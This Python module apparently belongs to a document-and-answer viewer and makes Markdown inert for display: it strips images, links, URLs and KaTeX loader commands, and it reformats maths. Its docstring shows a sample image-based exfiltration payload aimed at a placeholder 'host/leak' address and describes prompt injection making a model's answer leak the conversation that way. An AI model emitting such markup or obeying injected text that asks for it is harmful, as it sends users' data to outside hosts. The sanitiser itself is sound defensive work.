"""Text from documents and from the model, made inert for display as Markdown.

Passages, abstracts and answers are shown with ``st.markdown`` so that maths renders.
Markdown can also make the browser fetch: an image (``![x](http://host/leak?q=...)``)
loads as the page renders, and combined with prompt injection an answer could carry
the conversation off the machine that way. ``inert_markdown`` keeps what a reader
needs and removes every way to reach out of the page:

* images become their alt text, marked ``[image: ...]``;
* links keep their text, and their address is shown as code (never a link);
* bare addresses and reference definitions are shown as code;
* HTML stays escaped (``unsafe_allow_html`` is never used), and KaTeX commands that
  load or link (``\\href``, ``\\url``, ``\\includegraphics``) are dropped from maths.

In maths, a word of two letters or more is set upright (``\\mathrm``), as physics writes
it: KaTeX sets every letter in italics, so "$p_{T}^{miss}$", "$CL_{s}$" and "$fb^{-1}$"
read as a product of variables otherwise.

Sub- and superscripts written as HTML ("m<sub>H</sub>", as a portal's abstract holds them)
become maths ("$m_{H}$"): Markdown drops the tags and would show "mH".

It is idempotent, so a stream can be re-sanitised whole at every token.
"""

from __future__ import annotations

import re

_IMAGE = re.compile(r"!\[([^\]]*)\]\s*(\([^)]*\)|\[[^\]]*\])?")
_LINK = re.compile(r"(?<!!)\[([^\]]+)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
_REFERENCE_LINK = re.compile(r"(?<!!)\[([^\]]+)\]\[[^\]]*\]")
_DEFINITION = re.compile(r"^\s{0,3}\[[^\]]+\]:\s*(\S+).*$", re.M)
_AUTOLINK = re.compile(r"<((?:[a-z][a-z0-9+.-]*:|www\.)[^>\s]+)>", re.I)
_BARE_URL = re.compile(
    r"(?<![`\w])((?:(?:https?|ftp|file)://|www\.)[^\s`<>)\]]*[^\s`<>)\].,;:!?'\"])", re.I
)
_MATH = re.compile(r"(?<![\\$])\$([^$\n]{1,200}?)(?<!\\)\$")
# A run of letters not part of a command (\\mu) and not set upright already (\\mathrm{GeV}).
_MATH_WORD = re.compile(r"(?<![\\A-Za-z])(?<!\\mathrm\{)(?<!\\text\{)(?<!\\textrm\{)(?<!\\operatorname\{)([A-Za-z]{2,})(?![A-Za-z])")
_HTML_SCRIPTS = re.compile(r"(\w*)((?:<(?:sub|sup|super)>[^<>$\n]{1,40}</(?:sub|sup|super)>)+)")
_HTML_SCRIPT = re.compile(r"<(sub|sup|super)>([^<>]*)</")
_MATH_LOADERS = re.compile(r"\\(href|url|includegraphics|htmlClass|htmlId|htmlStyle|htmlData)\b(\[[^\]]*\])?(\{[^{}]*\})?")


def inert_markdown(text: str) -> str:
    """``text`` with images, links and addresses made harmless (see the module docstring)."""
    text = _MATH_LOADERS.sub("", text)
    text = _HTML_SCRIPTS.sub(_scripts, text)
    text = _IMAGE.sub(lambda m: f"[image: {m.group(1).strip() or 'no description'}]", text)
    text = _LINK.sub(lambda m: f"{m.group(1)} ({_code(m.group(2))})" if m.group(2) else m.group(1), text)
    text = _REFERENCE_LINK.sub(r"\1", text)
    text = _DEFINITION.sub(lambda m: f"(reference: {_code(m.group(1))})", text)
    text = _AUTOLINK.sub(lambda m: _code(m.group(1)), text)
    text = _BARE_URL.sub(lambda m: _code(m.group(1)), text)
    # maths last: an image inside "$…$" becomes "[image: a]" first, whose words stay as they are twice over
    return _MATH.sub(_upright, text)


def _scripts(tagged: re.Match) -> str:
    """"p<sub>T</sub><sup>miss</sup>" as "$p_{T}^{miss}$"; a word's scripts go after it, upright."""
    stem, tags = tagged.groups()
    scripts = "".join(("_" if kind == "sub" else "^") + "{" + body + "}" for kind, body in _HTML_SCRIPT.findall(tags))
    return f"${stem}{scripts}$" if len(stem) <= 3 else f"{stem}${scripts}$"


def _upright(maths: re.Match) -> str:
    """Inline maths with its words upright; "$5 and $10" (no script, no command) is no maths."""
    body = maths.group(1)
    return "$" + _MATH_WORD.sub(r"\\mathrm{\1}", body) + "$" if re.search(r"[_^\\]", body) else maths.group(0)


def _code(address: str) -> str:
    """An address as inline code: shown, never linked or fetched."""
    address = address.replace("`", "")
    return f"`{address}`" if address else ""


def passage_markdown(text: str, *, table: bool = False, lines: bool = False) -> str:
    """A passage as inert Markdown that keeps its shape, which Markdown would fold into one
    paragraph: a table's rows (one a line, cells joined by " | " as the readers write them,
    after any caption lines) as a table, and with ``lines`` (a slide's items) one line each."""
    rows = text.split("\n")
    if table:
        head = next((i for i, row in enumerate(rows) if " | " in row), len(rows))
        cells = [row.split(" | ") for row in rows[head:]]
        if len(cells) > 1 and len({len(row) for row in cells}) == 1:
            grid = ["| " + " | ".join(cell.replace("|", "\\|") for cell in row) + " |" for row in cells]
            grid.insert(1, "|" + " --- |" * len(cells[0]))
            return inert_markdown("  \n".join(rows[:head]) + ("\n\n" if head else "") + "\n".join(grid))
    return inert_markdown("  \n".join(rows) if lines or table else text)
